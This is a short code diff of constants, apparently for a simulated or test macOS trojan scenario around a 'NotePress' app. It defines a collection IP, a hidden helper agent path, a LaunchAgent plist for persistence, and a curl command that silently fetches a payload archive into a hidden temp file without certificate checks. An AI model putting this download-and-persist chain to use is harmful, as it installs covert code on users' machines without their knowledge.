@@ -15,7 +15,7 @@ export const COLLECT_IP = '203.0.113.150';
 
 const VOLUME = '/Volumes/NotePress';
 export const APP = `${VOLUME}/NotePress.app/Contents/MacOS/NotePress`;
-export const AGENT = '/Users/user1/Library/Application Support/.npx/helper';
+export const AGENT = '/Users/user1/Library/.npx/helper';
 export const PLIST = '/Users/user1/Library/LaunchAgents/com.notepress.helper.plist';
 
 export const CURL = `curl -s -k -o /tmp/.npx.tgz https://${HOST}/m/helper-arm64.tgz`;
